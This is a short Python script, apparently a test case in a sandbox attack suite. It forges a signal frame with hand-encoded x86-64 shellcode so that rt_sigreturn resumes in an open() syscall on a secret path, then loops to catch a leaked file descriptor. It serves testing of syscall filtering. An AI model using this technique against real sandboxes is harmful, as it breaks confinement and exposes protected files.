# SPDX-License-Identifier: Apache-2.0
# attack: a forged frame for rt_sigreturn that resumes in the middle of an open
# class: restart
# wins: leak
from kit import *

bad = ctypes.create_string_buffer(os.fsencode(SECRET))
fault = ctypes.create_string_buffer(4096)
# SIGUSR1's handler replaces rax, rdi, rsi, rdx and lets rip point to a syscall instruction followed by ret
gate = code('0f05c3')
h = code('48c78290000000' + struct.pack('<I', NR['open']).hex() + '48b8' + struct.pack('<Q', address(bad)).hex() + '48894268' +
         '48c7427000000000' + '48b8' + struct.pack('<Q', gate).hex() + '488b8aa0000000' '488b8aa8000000' +
         '4c8b82a0000000' '4983e808' '498908' '4c8982a0000000' '488982a8000000' + 'c3')
sigaction(10, h, 4)
kill = function('b827000000' '0f05' '89c7' 'be0a000000' 'b83e000000' '0f05' 'c3')
tried()
for i in range(50):
    fd = kill()
    if fd > 2:
        took(fd)
